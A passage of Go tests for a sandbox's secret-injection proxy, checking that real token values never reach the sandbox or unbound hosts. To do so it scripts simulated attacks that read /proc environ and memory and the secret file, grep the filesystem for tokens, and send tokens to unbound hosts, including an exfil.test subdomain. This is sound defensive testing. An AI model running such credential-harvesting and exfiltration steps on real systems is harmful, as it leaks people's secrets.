			t.Errorf("free.test received Authorization %q through the opaque tunnel, want TOKA's placeholder as sent", hdr(x))
		}
		receivedOnly(t, "bound.test HTTPS", e.tlsA, "/bearer", "/basic-u", "/basic-url", "/query-a", "/body-a",
			"/query-q", "/body-q", "/socks-a", "/git/repo.git/info/refs")
		receivedOnly(t, "bound.test plain HTTP", e.httpA, "/plain-ctl")
		receivedOnly(t, "bound.test plain HTTP (allow_plain_http)", e.httpP, "/plain-p")
		receivedOnly(t, "other.test", e.tlsB, "/b-ctl")
		receivedOnly(t, "free.test HTTP", e.httpF, "/free-ctl")
		receivedOnly(t, "free.test HTTPS", e.tlsF, "/free-tunnel")
		// No placeholder reached a host that its secret is not bound to
		// (free.test's opaque tunnel aside).
		for what, u := range map[string]*recorder{"free.test HTTP": e.httpF, "other.test": e.tlsB, "bound.test plain HTTP": e.httpA} {
			if d := u.dump(); strings.Contains(d, ph["TOKA"]) {
				t.Errorf("the placeholder of TOKA reached the %s upstream\n%s", what, d)
			}
		}
		if d := e.tlsA.dump(); strings.Contains(d, ph["TOKB"]) {
			t.Errorf("the placeholder of TOKB reached bound.test\n%s", d)
		}
		// Each real value went to its own hosts only.
		for name, where := range map[string]string{
			"TOKA": e.tlsA.dump(), "TOKQ": e.tlsA.dump(), "TOKB": e.tlsB.dump(), "TOKP": e.httpP.dump(),
		} {
			if n, m := strings.Count(all, e.reals[name]), strings.Count(where, e.reals[name]); n != m {
				t.Errorf("S3 violated: the real value of %s reached an upstream it is not bound to\n%s", name, all)
			}
		}

		raw, err := os.ReadFile(e.rep)
		if err != nil {
			t.Fatal(err)
		}
		noReal(t, "the report", string(raw), e.reals)
		evs := readReport(t, e.rep)
		fp, bp, ap := atoi(t, e.httpF.port), atoi(t, e.tlsB.port), atoi(t, e.tlsA.port)
		blockedSecret(t, evs, "http", "free.test", fp, "TOKA", "secret TOKA is not bound to free.test:"+e.httpF.port)
		blockedSecret(t, evs, "https", "other.test", bp, "TOKA", "secret TOKA is not bound to other.test:"+e.tlsB.port)
		blockedSecret(t, evs, "https", "bound.test", ap, "TOKB", "secret TOKB is not bound to bound.test:"+e.tlsA.port)
		blockedSecret(t, evs, "http", "bound.test", atoi(t, e.httpA.port), "TOKA", "allow_plain_http")
		blockedSecret(t, evs, "connect", strings.ToLower(ph["TOKQ"])+".exfil.test", 443, "TOKQ", "secret TOKQ is not bound to")
		n := 0
		for _, ev := range evs {
			if ev.Secret != "" {
				n++
			}
		}
		// a_free×6 (header, query as is and escaped, Basic, body twice),
		// a_b×5 (header, Basic, body twice, SOCKS5), b_a, plain_a, name_q.
		if n != 14 {
			t.Errorf("report: %d refusals name a secret, want 14\n%s", n, reportText(evs))
		}
		// As documented (README, Secrets): the placeholder inside HTTPS to
		// an allowed host no secret is bound to is not seen, so neither
		// refused nor reported; free.test got the placeholder, never the
		// real value (above).
		for _, ev := range evs {
			if ev.Host == "free.test" && ev.Port == atoi(t, e.tlsF.port) && ev.Action == "blocked" {
				t.Errorf("report: a refusal for free.test's opaque tunnel, which the proxy cannot read: %s", ev)
			}
		}
	})
}

// scanDirs are where the S3 scan looks for real values inside the
// sandbox (with the workspace and $HOME); /proc, /sys and /dev are read
// separately or not at all.
const scanDirs = "/etc /tmp /home /root /run /var/tmp"

// TestItem02_SecretNeverInSandbox: a secret's real value is nowhere the
// sandbox can read (S3). TOK comes from hutch's environment (--secret,
// and --pass-env TOK as well, which must still give the placeholder),
// FTOK from a world-readable file (policy from: file:PATH). Both are used
// (the upstream receives the real values: the control that hutch has
// them) and the upstream sends them back; a placeholder is also sent
// where it is not bound, so that the report names a secret. The sandbox
// then looks for the real values in env, every /proc/PID/environ and
// cmdline it can see, init's environ and memory, the secret's file, and
// every regular file under 1 MiB in the usual places and every file under
// / changed since the values were made, found with a pattern that does not
// hold the value itself. The controls: a file the
// test plants in the workspace with both real values is found by that
// scan, the placeholders are in the environment and in /proc. Neither
// real value appears in the output of the sandbox, in hutch's stderr
// (with --debug), or in the report, which names the secret.
func TestItem02_SecretNeverInSandbox(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		reals := map[string]string{"TOK": realValue("rt-"), "FTOK": realValue("rf-")}
		ca := "upstream-ca.pem"
		cfg := testCA(t, filepath.Join(sb.ws, ca), sb.mode.uid, randomName("hutch-bound-"), "bound.test")
		up := startRecorder(t, "127.0.0.1:0", cfg, reals["TOK"]+" "+reals["FTOK"])
		free := startRecorder(t, "127.0.0.1:0", nil, "")
		secretDir := hostDir(t, sb.mode.uid, "secretfile")
		secretFile := filepath.Join(secretDir, "token")
		writeFile(t, secretFile, reals["FTOK"]+"\n", 0o644, sb.mode.uid)
		mkdirs(t, sb.ws, sb.mode.uid, "control")
		writeFile(t, filepath.Join(sb.ws, "control", "known.txt"), reals["TOK"]+"\n"+reals["FTOK"]+"\n", 0o644, sb.mode.uid)
		pol := filepath.Join(hostDir(t, sb.mode.uid, "policy"), "policy.yaml")
		writeFile(t, pol, fmt.Sprintf("secrets:\n  - name: FTOK\n    hosts: [bound.test:%s]\n    from: file:%s\n", up.port, secretFile), 0o644, sb.mode.uid)
		rep := filepath.Join(hostDir(t, sb.mode.uid, "report"), "report.jsonl")
		a := sb.attacker()
		// Everywhere a file could have been written. Under gVisor the
		// host's root is read-only in the view (a write there fails), so
		// only the writable places can hold a new file; walking the whole
		// root through gVisor's gofer takes minutes.
		everywhere := "/"
		if sb.gvisor() {
			everywhere = `/tmp /dev/shm "$PWD" "$HOME"`
		}
		if sb.microvm() {
			// The microvm guest's root is the host's system directories,
			// read-only, under a layer in its memory that the guest's
			// init writes in /etc (the resolver, the trust bundles):
			// walking the whole root through virtiofs under emulation
			// takes minutes.
			everywhere = `/tmp /var/tmp /run /dev/shm /etc "$PWD" "$HOME"`
		}
		script := curlFn + dumpFn + `
echo "PH TOK=$TOK"; echo "PH FTOK=$FTOK"
env | sed 's/^/ENV /'
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo "== $f"; tr '\0' '\n' <"$f" 2>&1; echo; done
cat /proc/1/environ >/dev/null 2>&1; echo "RC init-environ $?"
` + argv(a, "openproc:/proc/1/mem", "openproc:/proc/1/environ", "open:"+secretFile) + `
cat ` + secretFile + ` 2>&1; echo "RC secretfile $?"
try use -H "Authorization: Bearer $TOK" -H "X-File-Token: $FTOK" https://bound.test:` + up.port + `/use
try misuse -H "Authorization: Bearer $FTOK" http://free.test:` + free.port + `/misuse
dump
find ` + scanDirs + ` "$PWD" "$HOME" -type f -size -1024k -print0 2>/dev/null >/tmp/scan.list
# And every file anywhere that changed since the real values were made
# (the control file was written after them): only such a file could hold
# one.
find ` + everywhere + ` \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f -newer "$PWD/control/known.txt" -size -16384k -print0 2>/dev/null >>/tmp/scan.list
echo "SCANNED $(tr -cd '\0' </tmp/scan.list | wc -c)"
timeout 20 xargs -0 grep -l -s -e '` + hidden(reals["TOK"]) + `' -e '` + hidden(reals["FTOK"]) + `' </tmp/scan.list | sed 's/^/FOUND /'
`
		flags := []string{
			"--policy", pol, "--secret", "TOK@bound.test:" + up.port, "--pass-env", "TOK",
			"--debug", "--report", rep, "--upstream-ca", ca,
			"--add-host", "bound.test:127.0.0.1", "--add-host", "free.test:127.0.0.1", "--allow-private", "127.0.0.1/32",
			"--allow-domain", "free.test:" + free.port,
		}
		r := sb.run(opts{env: []string{"TOK=" + reals["TOK"]}, flags: flags}, script)
		noReal(t, "the sandbox's output or hutch's stderr (--debug)", r.stdout+r.stderr, reals)
		ph := map[string]string{}
		for _, name := range []string{"TOK", "FTOK"} {
			ph[name] = checkPlaceholder(t, r, name, reals[name], "")
			if !strings.Contains(r.stdout, "ENV "+name+"="+ph[name]) {
				t.Errorf("control failed: env does not show $%s with its placeholder\n%s", name, r)
			}
			if !regexp.MustCompile(`(?m)^` + name + `=` + regexp.QuoteMeta(ph[name]) + `$`).MatchString(r.stdout) {
				t.Errorf("control failed: no /proc/PID/environ showed %s's placeholder\n%s", name, r)
			}
		}
		if !strings.Contains(r.stderr, "level=DEBUG") {
			t.Errorf("control failed: --debug logged nothing on stderr\n%s", r)
		}
		// Under microvm PID 1 is the guest's init, open to the guest's
		// root (the workspace's owner is root here): the real values are
		// never in the guest (they stay in hutch's proxy on the host),
		// which the dump of every process's environment and command
		// line, and the scan, check; PID 1's memory is item 27's.
		initClosed := map[string][]string{"openproc:/proc/1/mem": {"EACCES", "EPERM"}, "openproc:/proc/1/environ": {"EACCES", "EPERM"}}
		if sb.microvm() {
			initClosed = map[string][]string{}
		} else if !strings.Contains(r.stdout, "RC init-environ 1") {
			t.Errorf("init's /proc/1/environ was readable\n%s", r)
		}
		// The secret's file is refused; under gVisor it is masked with
		// the empty read-only file instead, which opens and reads nothing.
		secretRC, secretOpen := "RC secretfile 1", []string{"EACCES", "EPERM", "ENOENT"}
		if sb.gvisor() {
			secretRC = "RC secretfile 0"
			if res := attacks(r.stdout)["open:"+secretFile]; res != `ok ""` {
				t.Errorf("the secret's file %s under gVisor: %q, want it empty\n%s", secretFile, res, r)
			}
			secretOpen = append(secretOpen, "ok")
		}
		if !strings.Contains(r.stdout, secretRC) {
			t.Errorf("the secret's file %s was readable in the sandbox\n%s", secretFile, r)
		}
		initClosed["open:"+secretFile] = secretOpen
		expect(t, r, initClosed)

		// The controls: hutch has the real values and puts them in.
		x := oneRequest(t, "bound.test", up, "/use")
		if x.header.Get("Authorization") != "Bearer "+reals["TOK"] || x.header.Get("X-File-Token") != reals["FTOK"] {
			t.Errorf("control failed: bound.test did not receive the real values of TOK (env) and FTOK (file)\n%s", up.dump())
		}
		if !strings.Contains(r.stdout, headerLine("X-Leak", ph["TOK"]+" "+ph["FTOK"], r.stdout)) || !strings.Contains(r.stdout, "echo leak="+ph["TOK"]+" "+ph["FTOK"]) {
			t.Errorf("the response that carried the real values did not arrive with the placeholders\n%s", r)
		}
		c := curls(r.stdout)
		expectCurl(t, r, c, "misuse", map[string]string{"code": "403/000", "blocked": "secret_FTOK_is_not_bound_to_free.test:" + free.port})
		receivedOnly(t, "free.test", free)

		// The scan: only the planted control file holds a real value.
		m := regexp.MustCompile(`(?m)^SCANNED (\d+)$`).FindStringSubmatch(r.stdout)
		if m == nil || atoi(t, m[1]) < 100 {
			t.Errorf("the scan looked at too few files (%v)\n%s", m, r)
		}
		var found []string
		for _, line := range strings.Split(r.stdout, "\n") {
			if p, ok := strings.CutPrefix(line, "FOUND "); ok {
				found = append(found, p)
			}
		}
		slices.Sort(found)
		found = slices.Compact(found) // the workspace is under /tmp and $PWD
		if len(found) != 1 || !strings.HasSuffix(found[0], "/control/known.txt") {
			t.Errorf("S3: the scan found the real values in %q, want only the planted control/known.txt\n%s", found, r)
		}

		raw, err := os.ReadFile(rep)
		if err != nil {
			t.Fatal(err)
		}
		noReal(t, "the report", string(raw), reals)
		blockedSecret(t, readReport(t, rep), "http", "free.test", atoi(t, free.port), "FTOK", "secret FTOK is not bound to free.test:"+free.port)
	})
}

// TestItem02_SecretCopiesRefused: hutch refuses to start (exit 125, the
// command never runs) when the sandbox would get a secret's real value
// some other way than through the proxy (S3): another variable passed
// with --pass-env (by name or PREFIX_*) or set with --env, a file secret's
// value in a variable, the value inside the script or as a further
// argument. Its message names the secret and the variable, never the
// value. The controls: the same runs without the copy run the command.
func TestItem02_SecretCopiesRefused(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		real, freal := realValue("rc-"), realValue("rd-")
		secretFile := filepath.Join(hostDir(t, sb.mode.uid, "secretfile"), "token")
		writeFile(t, secretFile, freal+"\n", 0o644, sb.mode.uid)
		pol := filepath.Join(hostDir(t, sb.mode.uid, "policy"), "policy.yaml")
		writeFile(t, pol, "secrets:\n  - name: FTOK\n    hosts: [bound.test]\n    from: file:"+secretFile+"\n", 0o644, sb.mode.uid)
		base := []string{"--secret", "TOK@bound.test", "--policy", pol}
		env := []string{"TOK=" + real, "COPY=" + real, "COPY_X=x" + real + "x", "HARMLESS=yes", "FCOPY=" + freal}
		type variant struct {
			name    string
			flags   []string
			extra   []string // after the script: further arguments of sh
			script  string   // added to the script
			refused bool
			mention []string // the message names these
		}
		variants := []variant{
			{name: "control", flags: []string{"--pass-env", "HARMLESS", "--pass-env", "TOK"}},
			{name: "pass-env", flags: []string{"--pass-env", "COPY"}, refused: true, mention: []string{"TOK", "COPY"}},
			{name: "pass-env-prefix", flags: []string{"--pass-env", "COPY_*"}, refused: true, mention: []string{"TOK", "COPY_X"}},
			{name: "env", flags: []string{"--env", "SET=a" + real + "b"}, refused: true, mention: []string{"TOK", "SET"}},
			{name: "file-pass-env", flags: []string{"--pass-env", "FCOPY"}, refused: true, mention: []string{"FTOK", "FCOPY"}},
			{name: "script", script: ": " + real, refused: true, mention: []string{"TOK"}},
			{name: "argument", extra: []string{"sh", "--token=" + freal}, refused: true, mention: []string{"FTOK"}},
		}
		for _, v := range variants {
			marker := filepath.Join(sb.ws, "ran-"+v.name)
			args := append([]string{"run"}, append(slices.Clone(base), v.flags...)...)
			args = append(args, "--", "/bin/sh", "-c", "touch "+marker+"; echo \"PH TOK=$TOK\"\n"+v.script)
			args = append(args, v.extra...)
			r := sb.hutch(opts{env: env, noCheck: true}, args...)
			noReal(t, v.name+": hutch's output", r.stdout+r.stderr, map[string]string{"TOK": real, "FTOK": freal})
			if !v.refused {
				if r.code != 0 || !exists(marker) {
					t.Errorf("control failed (%s): the run did not run its command\n%s", v.name, r)
				}
				checkPlaceholder(t, r, "TOK", real, "")
				continue
			}
			if r.code != 125 {
				t.Errorf("S3 violated (%s): hutch exited %d, want 125 (refusing to hand the sandbox a real value)\n%s", v.name, r.code, r)
			}
			if exists(marker) {
				t.Errorf("S3 violated (%s): the command ran with a real value in its environment or arguments", v.name)
			}
			for _, w := range v.mention {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("%s: hutch's refusal does not name %s\n%s", v.name, w, r)
				}
			}
		}
	})
}
